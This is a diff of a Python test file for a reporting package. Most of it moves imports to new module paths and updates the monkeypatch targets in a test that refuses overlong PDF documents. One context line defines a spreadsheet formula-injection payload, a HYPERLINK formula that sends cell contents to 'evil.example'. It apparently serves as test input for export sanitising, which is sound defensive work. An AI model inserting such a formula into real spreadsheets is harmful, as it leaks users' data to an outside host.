@@ -15,11 +15,11 @@ from pypdf import PdfReader
 from credence.accounts.models import Profile
 from credence.audit.models import Event
 from credence.kit.sheets import as_text, harmless
-from credence.reporting.downloads import Form, take
-from credence.reporting.report import Report, report_for
-from credence.reporting.writing import document
-from credence.reporting.writing.document import TooLong, rendered
-from credence.reporting.writing.tables import all_tables, learners
+from credence.reporting.actions import Form, take
+from credence.reporting.documents import pdf
+from credence.reporting.documents.pdf import TooLong, rendered
+from credence.reporting.documents.tables import all_tables, learners
+from credence.reporting.queries.report import Report, report_for
 from tests.reporting.worked import NOW, Worked
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
@@ -202,9 +202,9 @@ def test_a_document_that_would_be_too_long_is_refused_and_nothing_is_on_record(
     worked: Worked, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     report = the_report(worked)
-    monkeypatch.setattr(document, "LONGEST", 10)
+    monkeypatch.setattr(pdf, "LONGEST", 10)
     assert taken(report, Form.DOCUMENT)
-    monkeypatch.setattr(document, "LONGEST", 9)
+    monkeypatch.setattr(pdf, "LONGEST", 9)
     with pytest.raises(TooLong) as refusal:
         take(report, Form.DOCUMENT, by="dana", why="", now=NOW)
     assert (refusal.value.learners, refusal.value.most) == (10, 9)
